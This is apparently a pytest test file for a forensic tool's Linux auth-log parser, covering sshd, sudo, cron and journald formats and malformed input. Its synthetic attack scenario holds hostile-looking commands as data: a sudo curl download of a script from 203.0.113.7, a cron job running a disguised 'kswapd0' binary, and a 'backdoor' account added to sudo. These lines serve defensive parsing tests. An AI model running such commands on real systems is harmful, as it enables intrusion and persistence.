"""The Linux auth-log source: every line shape it reads, and what it does with bad input."""

from __future__ import annotations

import datetime as dt
import gzip
import json
import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as strat

from deminer.case import Case
from deminer.scenarios.auth_log import FORMATS, AuthLog
from deminer.sources import SOURCES, auth_log
from deminer.sources import syslog_time as st
from deminer.sources.base import SourceError
from deminer.sources.ingest import ingest, pick_source

Row = dict[str, Any]


def rows_of(path: Path, **kwargs: Any) -> tuple[list[Row], list[Row]]:
    """(events, errors) of one file."""
    out: dict[str, list[Row]] = {"events": [], "errors": []}
    for table, batch in auth_log.parse_file(path, path.name, **kwargs):
        out[table].extend(batch)
    return out["events"], out["errors"]


def story() -> AuthLog:
    log = AuthLog(host="Web1.example.org", start=dt.datetime(2024, 3, 30, 8, 0))
    log.noise()
    log.benign_login("alice", "192.0.2.10", typos=2)
    log.brute_force("203.0.113.7", ["root", "admin", "oracle"], attempts=40,
                    invalid={"oracle", "admin"}, success_user="root")
    log.spray("198.51.100.5", [f"user{i:02d}" for i in range(12)])
    log.brute_force("198.51.100.9", ["root"], attempts=17)
    log.benign_login("bob", "192.0.2.11", method="keyboard-interactive/pam")
    log.sudo("alice", "/usr/bin/curl -fsSL http://203.0.113.7/x.sh -o /tmp/x.sh")
    log.cron("root", "/tmp/.x/kswapd0 -c /tmp/.x/config.json")
    log.useradd("backdoor", 1337)
    log.su("root", "alice")
    log.noise()
    return log


def summed(events: list[Row]) -> Counter[str]:
    out: Counter[str] = Counter()
    for e in events:
        out[e["event"]] += e["count"]
    return out


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("gz", [False, True], ids=["plain", "gz"])
def test_every_format_gives_the_story(tmp_path: Path, fmt: str, gz: bool) -> None:
    log = story()
    path = log.write(tmp_path / ("auth.log.1.gz" if gz else "auth.log"), fmt=fmt, gz=gz)
    head = path.read_bytes()[:65536]
    assert auth_log.sniff(path, head)
    assert pick_source(path, head, SOURCES) is auth_log.SOURCE      # the bundle does not take it
    events, errors = rows_of(path)
    assert not errors
    assert summed(events) == log.facts.events
    failures: Counter[str] = Counter()
    for e in events:
        if e["event"] == "logon_failure":
            failures[e["src_ip"]] += e["count"]
    assert failures == log.facts.failures
    ok = [(e["user"], e["src_ip"], e["status"]) for e in events if e["event"] == "logon_success"]
    assert ok == log.facts.successes
    commands = [(e["user"], e["command"]) for e in events if e["event"] in ("sudo", "cron_run")]
    assert commands == log.facts.commands
    assert {e["host"] for e in events} == {"web1.example.org"}
    assert all(e["ts"] is not None and e["ts"].year == 2024 for e in events)
    assert [e["ts"] for e in events] == sorted(e["ts"] for e in events)


def test_rows_carry_provenance_and_fields(tmp_path: Path) -> None:
    log = story()
    path = log.write(tmp_path / "auth.log")
    lines = path.read_text().splitlines()
    events, _ = rows_of(path)
    for e in events:
        assert lines[e["source_line"] - 1] == e["raw"]
        assert e["source"] == "auth.log" and e["program"] in ("sshd", "sudo", "CRON", "useradd", "su")
    folded = [e for e in events if "]: message repeated " in e["raw"]]
    assert {e["count"] for e in folded} == {3, 4, 5}          # 40 = 6*6 + 4, 17 = 6+6+5
    assert all(e["event"] == "logon_failure" and f"repeated {e['count']} times" in e["raw"] for e in folded)
    root_ok = next(e for e in events if e["event"] == "logon_success" and e["user"] == "root")
    assert root_ok["src_ip"] == "203.0.113.7" and root_ok["status"] == "password"
    assert root_ok["pid"] > 0 and 32768 <= root_ok["src_port"] <= 60999
    bad = {e["status"] for e in events if e["event"] == "logon_failure" and e["src_ip"] == "203.0.113.7"}
    assert bad == {"bad_password", "invalid_user"}
    key = next(e for e in events if e["event"] == "logon_success" and e["user"] == "alice")
    assert json.loads(key["data"])["fingerprint"].startswith("SHA256:")
    kbd = next(e for e in events if e["event"] == "logon_success" and e["user"] == "bob")
    assert kbd["status"] == "keyboard-interactive"
    sudo = next(e for e in events if e["event"] == "sudo")
    assert json.loads(sudo["data"]) == {"pwd": "/home/alice", "run_as": "root", "tty": "pts/0"}
    added = next(e for e in events if e["event"] == "user_added")
    assert added["user"] == "backdoor" and json.loads(added["data"])["uid"] == 1337


def test_lines_real_servers_write(tmp_path: Path) -> None:
    text = "\r\n".join([
        # loghub: a user name that starts with a space, CRLF endings, old sshd formats
        "Dec 10 08:24:32 LabSZ sshd[24361]: Invalid user  0101 from 5.188.10.180",
        "Dec 10 08:24:35 LabSZ sshd[24361]: Failed password for invalid user  0101 from 5.188.10.180 "
        "port 36279 ssh2",
        "Dec 10 07:02:47 LabSZ sshd[24203]: Connection closed by 212.47.254.145 [preauth]",
        "Dec 10 07:07:45 LabSZ sshd[24206]: Received disconnect from 52.80.34.196: 11: Bye Bye [preauth]",
        "Dec 10 07:08:30 LabSZ sshd[24208]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
        "euid=0 tty=ssh ruser= rhost=ec2-52-80-34-196.cn-north-1.compute.amazonaws.com.cn ",
        "Dec 10 09:00:00 LabSZ sshd[1]: Failed none for invalid user 0 from 5.188.10.180 port 1 ssh2",
        # a user name that tries to fake the address
        "Dec 10 09:00:01 LabSZ sshd[2]: Failed password for invalid user x from 10.0.0.1 port 1 ssh2 "
        "from 198.51.100.1 port 2222 ssh2",
        "Dec 10 09:00:02 LabSZ sshd[3]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2",
        "Dec 10 09:00:03 LabSZ sshd[3]: Disconnected from invalid user guest 198.51.100.1 port 22 [preauth]",
        "Dec 10 09:00:04 LabSZ sshd[3]: Failed publickey for git from 198.51.100.2 port 5 ssh2: RSA SHA256:x",
        "Dec 10 09:00:05 LabSZ sudo:   alice : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; "
        "USER=root ; COMMAND=/bin/sh -c 'a ; b'",
        "Dec 10 09:00:06 LabSZ su[9]: FAILED su for root by mallory",
        "Dec 10 09:00:07 LabSZ usermod[10]: add 'backdoor' to group 'sudo'",
        "Dec 10 09:00:07 LabSZ usermod[10]: add 'backdoor' to shadow group 'sudo'",
        "Dec 10 09:00:08 LabSZ sshd[11]: Failed password for root from 198.51.100.3 port 1 ssh2",
        "Dec 10 09:00:09 LabSZ last message repeated 3 times",
        "Dec 10 09:00:10 LabSZ kernel: [  1.0] random noise that is not about logins",
        "Dec 10 09:00:11 LabSZ sshd-session[12]: Accepted publickey for deploy from 2001:db8::7 port 22 ssh2",
    ]) + "\r\n"
    path = tmp_path / "secure"
    path.write_bytes(text.encode())
    events, errors = rows_of(path, reference_year=2016)
    assert not errors
    got = [(e["event"], e.get("user"), e.get("src_ip"), e.get("status"), e["count"]) for e in events]
    assert got == [
        ("invalid_user", " 0101", "5.188.10.180", "invalid_user", 1),
        ("logon_failure", " 0101", "5.188.10.180", "invalid_user", 1),
        ("disconnect", None, "212.47.254.145", "preauth", 1),
        ("disconnect", None, "52.80.34.196", "preauth", 1),
        ("pam_auth_failure", None, None, "pam_failure", 1),
        ("logon_failure", "x from 10.0.0.1 port 1 ssh2", "198.51.100.1", "invalid_user", 1),
        ("logon_success", "fztu", "119.137.62.142", "password", 1),
        ("disconnect", "guest", "198.51.100.1", "preauth", 1),
        ("logon_failure", "git", "198.51.100.2", "failed_publickey", 1),
        ("sudo", "alice", None, "3 incorrect password attempts", 1),
        ("su", "root", None, "failure", 1),
        ("group_member_added", "backdoor", None, None, 1),
        ("logon_failure", "root", "198.51.100.3", "bad_password", 1),
        ("logon_failure", "root", "198.51.100.3", "bad_password", 3),
        ("logon_success", "deploy", "2001:db8::7", "publickey", 1),
    ]
    assert events[0]["ts"] == dt.datetime(2016, 12, 10, 8, 24, 32)
    assert not any(e["raw"].endswith("\r") for e in events)
    assert json.loads(events[4]["data"]) == {"rhost": "ec2-52-80-34-196.cn-north-1.compute.amazonaws.com.cn"}
    assert events[9]["command"] == "/bin/sh -c 'a ; b'"
    assert events[-1]["program"] == "sshd-session"


def _syslog(lines: list[str], path: Path, mtime: dt.datetime | None = None) -> Path:
    path.write_text("".join(f"{ln} h sshd[1]: Failed password for root from 192.0.2.1 port 1 ssh2\n"
                            for ln in lines))
    if mtime is not None:
        os.utime(path, (mtime.replace(tzinfo=dt.UTC).timestamp(),) * 2)
    return path


def test_year_rolls_over_from_december_to_january(tmp_path: Path) -> None:
    path = _syslog(["Dec 30 23:59:58", "Dec 31 23:59:59", "Jan  1 00:00:01", "Jan  2 10:00:00"],
                   tmp_path / "auth.log", mtime=dt.datetime(2025, 1, 2, 10, 5))
    years = [e["ts"].year for e in rows_of(path)[0]]
    assert years == [2024, 2024, 2025, 2025]
    assert [e["ts"].year for e in rows_of(path, reference_year=2031)[0]] == [2030, 2030, 2031, 2031]


def test_year_never_puts_lines_after_the_files_mtime(tmp_path: Path) -> None:
    # written in November, copied in March: November of the year before
    path = _syslog(["Nov 20 10:00:00", "Nov 21 10:00:00"], tmp_path / "a.log",
                   mtime=dt.datetime(2025, 3, 1))
    assert [e["ts"] for e in rows_of(path)[0]] == [dt.datetime(2024, 11, 20, 10),
                                                    dt.datetime(2024, 11, 21, 10)]
    # a host ahead of UTC logs local times a few hours "after" the UTC mtime: same year
    path = _syslog(["Mar  1 08:00:00"], tmp_path / "b.log", mtime=dt.datetime(2025, 3, 1, 1, 0))
    assert rows_of(path)[0][0]["ts"] == dt.datetime(2025, 3, 1, 8)
    # three years of a quiet host in one file
    path = _syslog(["Jun  1 00:00:00", "Jan  1 00:00:00", "Jul  1 00:00:00", "Feb  1 00:00:00",
                    "Feb  2 00:00:00"], tmp_path / "c.log", mtime=dt.datetime(2025, 2, 3))
    assert [e["ts"].year for e in rows_of(path)[0]] == [2023, 2024, 2024, 2025, 2025]


def test_year_tolerates_lines_swapped_across_new_year(tmp_path: Path) -> None:
    path = _syslog(["Dec 31 23:59:59", "Jan  1 00:00:00", "Dec 31 23:59:59", "Jan  1 00:00:01"],
                   tmp_path / "auth.log", mtime=dt.datetime(2025, 1, 1, 0, 5))
    assert [e["ts"].year for e in rows_of(path)[0]] == [2024, 2025, 2024, 2025]
    assert st.year_step(4, 3) == 0 and st.year_step(12, 1) == 1 and st.year_step(1, 12) == -1


def test_month_scan_over_many_blocks_agrees_with_line_by_line(tmp_path: Path) -> None:
    log = AuthLog(start=dt.datetime(2022, 11, 1))
    for _ in range(40):
        log.brute_force("192.0.2.1", ["root"], attempts=3)
        log.tick(3 * 86400)
    path = log.write(tmp_path / "auth.log", mtime=dt.datetime(2023, 3, 15))
    scan = st.MonthScan()
    with st.open_log(path) as fh:
        for block in st.Blocks(fh, block=4096):      # small blocks: months change inside them
            scan.feed(block)
    assert scan.net_years == 1 and scan.start_year(dt.datetime(2023, 3, 15)) == 2022
    events, _ = rows_of(path)
    assert events[0]["ts"].date() == dt.date(2022, 11, 1) and events[-1]["ts"].year == 2023
    assert [e["ts"] for e in events] == sorted(e["ts"] for e in events)


def test_binary_file_named_auth_log_is_refused_clearly(tmp_path: Path) -> None:
    path = tmp_path / "auth.log"
    path.write_bytes(os.urandom(4096) + b"\0" * 100)
    assert auth_log.sniff(path, path.read_bytes())
    with pytest.raises(SourceError, match="binary content, not a text log"):
        rows_of(path)
    other = tmp_path / "good.log"
    story().write(other)
    with Case(None) as case:
        summary = ingest(case, [tmp_path])
        assert summary.files == 2 and summary.rows["events"] > 0
        assert summary.errors == [f"{path}: auth_log: binary content, not a text log"]
        assert case.query("SELECT error FROM inputs WHERE path = ?", [str(path)])[0]["error"]


def test_sniff_rejects_what_is_not_an_auth_log(tmp_path: Path) -> None:
    p = tmp_path / "x"
    for head in (b"", b"GET / HTTP/1.1\r\n",
                 b'198.51.100.1 - - [10/Oct/2024:13:55:36 +0000] "GET / HTTP/1.1" 200',
                 b"kind,value\nip,1.2.3.4\n", b'{"EventID": 4625, "Channel": "Security"}\n',
                 os.urandom(2000) + b"\0", gzip.compress(b"just words\n" * 10)):
        assert not auth_log.sniff(p, head), head[:40]
    assert auth_log.sniff(p, b"2024-03-27T13:06:56.123+01:00 web1 sshd[1]: x\n")
    assert auth_log.sniff(p, b"<86>1 2024-03-27T13:06:56Z web1 sshd 1 - - x\n")
    # a log the collector cut in the middle of a line
    assert auth_log.sniff(p, b"ssword for root\nMar  1 00:00:00 h sshd[1]: x\n")


def test_long_lines_and_bad_bytes_keep_the_rest(tmp_path: Path) -> None:
    good = "Mar  1 00:00:0{} h sshd[1]: Failed password for root from 192.0.2.1 port 1 ssh2\n"
    data = (good.format(1).encode()
            + b"Mar  1 00:00:02 h sshd[1]: Failed password for r\xffo\x1b[31mt from 192.0.2.2 port 1 ssh2\n"
            + b"Mar  1 00:00:03 h sshd[1]: Invalid user " + b"A" * 200_000 + b" from 192.0.2.3\n"
            + good.format(4).encode() + b"Mar  1 00:00:05 h sshd[1]: " + b"B" * 9_000_000 + b"\n"
            + good.format(6).encode())
    path = tmp_path / "auth.log"
    path.write_bytes(data)
    events, errors = rows_of(path, reference_year=2024)
    assert [e["source_line"] for e in events] == [1, 2, 4, 6]
    assert events[1]["user"] == "r\\xffo\x1b[31mt"          # stored as found, escaped bytes
    assert [e["message"] for e in errors] == ["2 line(s) longer than 65536 bytes were cut (first at line 3)"]
    assert all(len(e["raw"]) <= auth_log.RAW_CAP for e in events)


def test_journald_json_keeps_good_lines(tmp_path: Path) -> None:
    log = story()
    lines = log.lines("journald")
    lines[3] = lines[3][:40]                 # cut short
    lines.insert(5, '{"MESSAGE": 1, "SYSLOG_IDENTIFIER": "sshd"}')
    raw = b"Failed password for r\xffot from 192.0.2.77 port 1 ssh2"
    lines.insert(6, json.dumps({"MESSAGE": list(raw), "SYSLOG_IDENTIFIER": "sshd",
                                "__REALTIME_TIMESTAMP": "1711785600000000"}))
    path = tmp_path / "journal.json"
    path.write_text("\n".join(lines) + "\n")
    events, errors = rows_of(path)
    assert [e["message"][:59] for e in errors] == [
        "2 journald JSON line(s) could not be read (first at line 4)"]
    assert summed(events)["logon_failure"] == log.facts.events["logon_failure"] + 1
    odd = next(e for e in events if e["src_ip"] == "192.0.2.77")
    assert odd["user"] == "r\\xffot" and odd["ts"] == dt.datetime(2024, 3, 30, 8, 0)
    assert odd["host"] is None           # that record names no _HOSTNAME
    assert {e["host"] for e in events if e is not odd} == {"web1.example.org"}


def test_truncated_gzip_keeps_what_was_read(tmp_path: Path) -> None:
    log = AuthLog()
    log.brute_force("192.0.2.1", ["root"], attempts=3000)
    path = log.write(tmp_path / "auth.log.2.gz", gz=True)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    events, errors = rows_of(path)
    assert 0 < sum(e["count"] for e in events if e["event"] == "logon_failure") < 3000
    assert len(errors) == 1 and "compressed log ends early" in errors[0]["message"]


def test_host_given_by_the_user_wins(tmp_path: Path) -> None:
    path = story().write(tmp_path / "auth.log")
    events = [r for t, b in auth_log.parse_file(path, "x", host="db7") if t == "events" for r in b]
    assert {e["host"] for e in events} == {"db7"}


def test_batches_stay_bounded(tmp_path: Path) -> None:
    log = AuthLog()
    log.brute_force("192.0.2.1", ["root"], attempts=600)
    path = log.write(tmp_path / "auth.log", fold=False)
    sizes = [len(b) for t, b in auth_log.parse_file(path, "x", batch_rows=100) if t == "events"]
    assert max(sizes) == 100 and len(sizes) > 5


# Any printable name (control bytes are covered above); "invalid user X" is sshd's own prefix.
_USER = strat.text(strat.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40).filter(
    lambda u: not u.startswith("invalid user "))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(user=_USER, port=strat.integers(1, 65535))
def test_any_user_name_comes_back_as_written(tmp_path: Path, user: str, port: int) -> None:
    path = tmp_path / "auth.log"
    tail = f"for {user} from 192.0.2.9 port {port} ssh2\n"
    path.write_text(f"Mar  1 00:00:00 h sshd[1]: Failed password {tail}"
                    f"Mar  1 00:00:01 h sshd[1]: Accepted password {tail}", encoding="utf-8")
    events, _ = rows_of(path, reference_year=2024)
    assert [(e["user"], e["src_ip"], e["src_port"]) for e in events] == [(user, "192.0.2.9", port)] * 2


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(junk=strat.lists(strat.binary(max_size=300), max_size=20))
def test_junk_lines_never_break_the_parser(tmp_path: Path, junk: list[bytes]) -> None:
    good = b"Mar  1 00:00:00 h sshd[1]: Failed password for root from 192.0.2.9 port 1 ssh2"
    path = tmp_path / "auth.log"
    path.write_bytes(b"\n".join([good, *junk, good]) + b"\n")
    try:
        events, _ = rows_of(path, reference_year=2024)
    except SourceError as exc:
        assert "binary content" in str(exc)
        return
    assert [e["source_line"] for e in events][:1] == [1]
    assert events[-1]["raw"] == good.decode()
